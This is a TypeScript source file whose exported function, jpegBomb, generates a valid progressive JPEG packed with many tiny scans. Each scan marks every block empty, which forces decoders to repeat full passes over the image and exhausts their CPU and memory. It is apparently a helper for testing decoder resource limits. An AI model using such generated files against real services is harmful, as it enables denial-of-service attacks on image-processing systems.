const segment = (marker: number, body: readonly number[]) =>
  Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body]);

/** A Huffman table with one code, the bit 0, for one symbol. */
const table = (kind: number, symbol: number) => segment(0xc4, [kind, 1, ...Array<number>(15).fill(0), symbol]);

/** The maximum run of empty blocks of 8 × 8 pixels. */
const longestRun = 32_767;

/** A valid progressive JPEG, all grey, with many scans of a few bytes, each of which says that all blocks are empty. */
export function jpegBomb(side: number, scans: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const runs = Math.ceil(blocks / longestRun);
  const bits = `0${"1".repeat(14)}`.repeat(runs).padEnd(Math.ceil((15 * runs) / 8) * 8, "1");
  const nothing = (bits.match(/.{8}/g) ?? []).flatMap((byte) =>
    byte === "11111111" ? [0xff, 0] : [Number.parseInt(byte, 2)],
  );
  const size = [side >> 8, side & 0xff];
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, ...size, ...size, 1, 1, 0x11, 0]),
    table(0x00, 0),
    table(0x10, 0xe0),
    segment(0xda, [1, 1, 0, 0, 0, 0]),
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...Array<Buffer>(scans).fill(Buffer.concat([segment(0xda, [1, 1, 0, 1, 63, 0]), Buffer.from(nothing)])),
    Buffer.from([0xff, 0xd9]),
  ]);
}
